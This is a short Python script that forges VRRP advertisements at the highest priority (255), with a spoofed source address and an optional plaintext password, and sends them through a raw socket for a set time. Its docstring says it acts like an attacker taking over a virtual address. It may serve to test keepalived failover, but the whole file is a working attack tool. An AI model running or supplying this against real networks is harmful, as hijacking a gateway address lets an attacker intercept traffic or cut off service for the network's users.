"""Sends VRRP advertisements with the highest priority, like an attacker who wants to take an address. It needs root.

Usage: vrrp-attack.py SECONDS SOURCE ADDRESS PASSWORD DESTINATION...; without a password ("") the advertisements have none.
"""
import socket
import struct
import sys
import time

VRRP = 112
ROUTER_ID = 51
HIGHEST_PRIORITY = 255


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(address: str, password: str) -> bytes:
    def packet(check: int) -> bytes:
        head = struct.pack("!BBBBBBH", 0x21, ROUTER_ID, HIGHEST_PRIORITY, 1, 1 if password else 0, 1, check)
        return head + socket.inet_aton(address) + password.encode().ljust(8, b"\0")

    # keepalived includes the password in the checksum, like RFC 2338.
    return packet(checksum(packet(0)))


def datagram(source: str, destination: str, payload: bytes) -> bytes:
    # The kernel fills in the length, the identification and the checksum.
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    return struct.pack("!BBHHHBBH", 0x45, 0xC0, 0, 0, 0, 255, VRRP, 0) + addresses + payload


def main() -> None:
    seconds, source, address, password, *destinations = sys.argv[1:]
    payload = advertisement(address, password)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    end = time.monotonic() + float(seconds)
    sent = 0
    while time.monotonic() < end:
        for destination in destinations:
            sender.sendto(datagram(source, destination, payload), (destination, 0))
            sent += 1
        time.sleep(0.2)
    print(sent)


main()
